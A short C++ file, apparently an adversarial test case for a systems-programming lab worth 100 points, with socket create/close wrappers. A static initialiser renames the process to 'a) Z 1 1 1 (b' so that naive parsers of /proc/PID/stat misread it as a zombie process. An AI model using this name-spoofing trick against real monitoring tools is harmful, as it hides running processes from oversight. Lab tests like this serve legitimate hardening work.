// Ataque: se pone un nombre que imita los campos de /proc/PID/stat, para que lo den por muerto.
// Puntos: 100
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lab1.hpp"
#include "programs/kit.hpp"

namespace {

const struct Early {
  Early() { ::prctl(PR_SET_NAME, "a) Z 1 1 1 (b"); }
} early;

}  // namespace

namespace lab1 {

int create_socket(int domain, int type) { return kit::check("socket", ::socket(domain, type | SOCK_CLOEXEC, 0)); }

void close_socket(int fd) { kit::check("close", ::close(fd)); }

}  // namespace lab1
